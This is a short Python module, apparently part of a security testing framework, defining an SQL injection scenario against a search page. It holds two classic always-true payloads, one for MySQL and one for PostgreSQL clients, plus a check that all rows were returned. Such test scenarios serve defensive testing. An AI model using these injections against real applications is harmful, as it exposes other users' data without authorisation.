"""F1: an injected OR makes a condition true for every row."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.clients.psycopg2 import Psycopg2
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage

ALL_ROWS = 20
"""Rows of the smaller table."""


class AlwaysTrue(SearchPage):
    """The search text ends the literal and extends the condition."""

    attack = "reads everybody's rows through a condition that is always true"
    runs = (Run(MySQLConnector, injected="x' OR 1=1 -- "), Run(Psycopg2, injected="x' OR 'a'='a' -- "))

    @classmethod
    def has_succeeded(cls, service: object, got: object) -> bool:
        """Return whether every row came back."""
        del service
        return isinstance(got, list) and len(got) >= ALL_ROWS
